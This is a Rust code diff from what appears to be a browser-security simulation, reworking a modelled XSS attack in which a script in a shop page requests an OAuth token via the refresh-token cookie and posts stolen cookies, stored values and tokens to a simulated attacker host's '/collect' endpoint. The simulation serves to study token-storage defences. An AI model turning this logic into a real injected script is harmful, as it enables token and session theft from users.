@@ -19,13 +19,43 @@ use crate::sim::world::{BLOG, EVIL, SHOP, World};
 /// How loot is named beside the header lines.
 const REFRESH: &str = "refresh_token";
 
-/// A script in the shop's page reads what scripts can read, and sends it away.
+/// A script in the shop's page reads what scripts can read, and sends it away. Where the
+/// page could ask for a token, it does so first.
 pub fn xss_read(world: &mut World, tab: u8) {
-    let mut found: Vec<(String, String)> = wire::script_reads(world)
+    match token_request(world, tab) {
+        Some(request) => {
+            let purpose = Purpose::ScriptRefresh { tab };
+            let exchange = Exchange {
+                attack: Some(world.now),
+                ..page::exchange(world, Actor::Script, request, purpose)
+            };
+            wire::send(world, exchange);
+        }
+        None => exfiltrate(world, tab, Vec::new()),
+    }
+}
+
+/// The request by which a script gets a token of its own: the browser attaches the cookie
+/// with the refresh token, and the answer can be read (OAuth 2.0 for Browser-Based
+/// Applications, section 5.1.3).
+fn token_request(world: &mut World, tab: u8) -> Option<Request> {
+    let settings = &world.settings;
+    let by_cookie = settings.refresh_storage == TokenStorage::Cookie;
+    if !by_cookie || settings.access_storage == TokenStorage::Cookie {
+        return None;
+    }
+    let lane = world.lane;
+    let me = Actor::Tab(tab);
+    lane.renewal(&mut Client { world, me })
+}
+
+/// The script sends away what it has got and what it can read.
+fn exfiltrate(world: &mut World, tab: u8, mut found: Vec<(String, String)>) {
+    let readable: Vec<(String, String)> = wire::script_reads(world)
         .into_iter()
         .map(|cookie| (cookie.name, cookie.value))
         .collect();
-    loot_cookies(world, &found);
+    loot_cookies(world, &readable);
     // What the page's code keeps in variables of its own is out of reach.
     let tab_storage = world.state.all::<String>(Actor::Tab(tab));
     let stored: Vec<(String, String)> = world
@@ -39,6 +69,8 @@ pub fn xss_read(world: &mut World, tab: u8) {
         })
         .collect();
     take_tokens(world, &stored);
+    take_tokens(world, &found);
+    found.extend(readable);
     found.extend(stored);
     let url = attackers(EVIL, "/collect");
     let mut request = Request::new("POST", url.clone());
@@ -57,30 +89,9 @@ pub fn xss_read(world: &mut World, tab: u8) {
     };
     world.emit(What::Note {
         who: Actor::Script,
-        text: format!("reads {} values in tab {tab}", found.len()),
+        text: format!("has {} values of tab {tab}", found.len()),
     });
     wire::send(world, exchange);
-    ask_for_token(world, tab);
-}
-
-/// A script in the shop's page asks for a token of its own: the browser attaches the
-/// cookie with the refresh token, and the answer can be read (OAuth 2.0 for
-/// Browser-Based Applications, section 5.1.3).
-fn ask_for_token(world: &mut World, tab: u8) {
-    let settings = &world.settings;
-    let by_cookie = settings.refresh_storage == TokenStorage::Cookie;
-    if !by_cookie || settings.access_storage == TokenStorage::Cookie {
-        return;
-    }
-    let lane = world.lane;
-    let me = Actor::Tab(tab);
-    if let Some(request) = lane.renewal(&mut Client { world, me }) {
-        let exchange = Exchange {
-            attack: Some(world.now),
-            ..page::exchange(world, Actor::Script, request, Purpose::ScriptRefresh)
-        };
-        wire::send(world, exchange);
-    }
 }
 
 /// A script in the shop's page has the page's own code send a request.
@@ -294,7 +305,7 @@ pub fn answered(world: &mut World, purpose: &Purpose, reply: &Reply) {
             take_tokens(world, &tokens_of(&reply.response));
             loot_cookies(world, &set_pairs(&reply.response));
         }
-        Purpose::ScriptRefresh => take_tokens(world, &tokens_of(&reply.response)),
+        Purpose::ScriptRefresh { tab } => exfiltrate(world, *tab, tokens_of(&reply.response)),
         // A session that was stolen goes on under a new ID for whoever is first.
         Purpose::Replay => loot_cookies(world, &set_pairs(&reply.response)),
         _ => {}
